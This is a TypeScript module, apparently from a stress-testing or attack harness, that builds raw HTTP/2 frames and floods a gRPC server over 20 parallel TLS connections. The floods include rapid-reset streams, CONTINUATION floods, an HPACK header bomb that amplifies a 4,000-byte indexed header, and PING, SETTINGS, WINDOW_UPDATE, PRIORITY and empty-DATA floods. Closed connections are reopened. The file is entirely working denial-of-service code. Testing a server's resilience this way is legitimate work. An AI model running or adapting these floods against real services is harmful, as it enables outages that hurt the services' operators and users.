import { repeatInParallel, type Attack } from './attack.ts';
import { addressOf, isOpened, open, write } from './connection.ts';
import { methods } from './grpc.ts';

/** The HTTP/2 connection preface. */
export const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

/** Frame types (RFC 9113, section 6). */
export const types = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  windowUpdate: 8,
  continuation: 9,
};
/** Flags of HEADERS and DATA. */
export const flags = { endStream: 1, endHeaders: 4 };

/** A frame on the wire. */
export function frame(type: number, flag: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flag, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A short literal header without indexing (RFC 7541, section 6.2.2). */
function literal(name: string, value: string): Buffer {
  const part = (text: string) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
  return Buffer.concat([Buffer.from([0]), part(name), part(value)]);
}

/** The headers of a call. */
export function callTo(path: string, contentType = 'application/grpc'): Buffer {
  return Buffer.concat([
    Buffer.from([0x83, 0x87]), // :method POST, :scheme https
    literal(':path', path),
    literal(':authority', 'localhost'),
    literal('content-type', contentType),
    literal('te', 'trailers'),
  ]);
}

const call = callTo(methods.list);
const refused = { otherType: callTo(methods.list, 'text/plain'), unknownMethod: callTo('/no.Service/Method') };

/** Indexes a header of 4,000 bytes and then repeats it at one byte each. */
const headerBomb = Buffer.concat([
  Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), // x: 127 + 3873 bytes
  Buffer.alloc(4_000, 'y'),
  Buffer.alloc(12_000, 0xbe),
]);

/** Bytes that are sent repeatedly on a connection, by the number of the repetition. */
type Flood = (turn: number) => Buffer;

const repeated = (times: number, one: Buffer): Flood => {
  const many = Buffer.concat(Array.from({ length: times }, () => one));
  return () => many;
};

/** Frames of many streams with consecutive odd ids. */
const streams =
  (count: number, of: (stream: number) => Buffer): Flood =>
  (turn) =>
    Buffer.concat(Array.from({ length: count }, (_, at) => of(2 * (turn * count + at) + 1)));

/** A 32-bit big-endian number. */
export const uint32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** Calls that are reset immediately (rapid reset). */
const resets = (count: number, headers: Buffer): Flood =>
  streams(count, (stream) =>
    Buffer.concat([frame(types.headers, flags.endHeaders, stream, headers), frame(types.reset, 0, stream, uint32(8))]),
  );

const calls = (count: number, headers: Buffer): Flood =>
  streams(count, (stream) => frame(types.headers, flags.endHeaders + flags.endStream, stream, headers));

const floods = {
  pings: repeated(1_000, frame(types.ping, 0, 0, Buffer.alloc(8))),
  settings: repeated(1_000, frame(types.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff]))),
  resets: resets(500, call),
  otherTypeResets: resets(1, refused.otherType),
  unknownMethodResets: resets(1, refused.unknownMethod),
  otherTypes: calls(500, refused.otherType),
  unknownMethods: calls(500, refused.unknownMethod),
  calls: calls(500, call),
  continuations: (turn: number) =>
    Buffer.concat([
      ...(turn === 0 ? [frame(types.headers, 0, 1, call)] : []),
      ...Array.from({ length: 200 }, () => frame(types.continuation, 0, 1, literal('x', 'y'.repeat(100)))),
    ]),
  emptyContinuations: (turn: number) =>
    Buffer.concat([
      ...(turn === 0 ? [frame(types.headers, 0, 1, call)] : []),
      ...Array.from({ length: 1_000 }, () => frame(types.continuation, 0, 1)),
    ]),
  emptyData: (turn: number) =>
    Buffer.concat([
      ...(turn === 0 ? [frame(types.headers, flags.endHeaders, 1, call)] : []),
      ...Array.from({ length: 1_000 }, () => frame(types.data, 0, 1)),
    ]),
  headerBombs: streams(5, (stream) =>
    frame(types.headers, flags.endHeaders, stream, Buffer.concat([call, headerBomb])),
  ),
  windowUpdates: repeated(1_000, frame(types.windowUpdate, 0, 0, uint32(1))),
  priorities: streams(1_000, (stream) =>
    frame(types.priority, 0, stream, Buffer.concat([uint32(0), Buffer.from([1])])),
  ),
  unknown: repeated(1_000, frame(0xbb, 0, 0, Buffer.alloc(16))),
} as const;

/** Kinds of floods of HTTP/2 frames. */
export type FloodName = keyof typeof floods;

/** Floods of frames over 20 gRPC connections; closed ones are reopened. */
export function frameFlood(...names: readonly FloodName[]): (attack: Attack) => Promise<void> {
  return async (attack) => {
    const { target, counter, signal } = attack;
    await repeatInParallel(attack, 20, async (number, round) => {
      const name = names[(number + round) % names.length] ?? 'pings';
      const socket = open({ port: target.ports.grpc, tls: 'h2', from: addressOf(number % 5) });
      if (await isOpened(socket, 'secureConnect')) {
        await write(socket, Buffer.concat([preface, frame(types.settings, 0, 0)]));
        for (let turn = 0; !signal.aborted && (await write(socket, floods[name](turn))); turn++) counter.add(name);
        counter.add('closed');
      }
      socket.destroy();
    });
  };
}
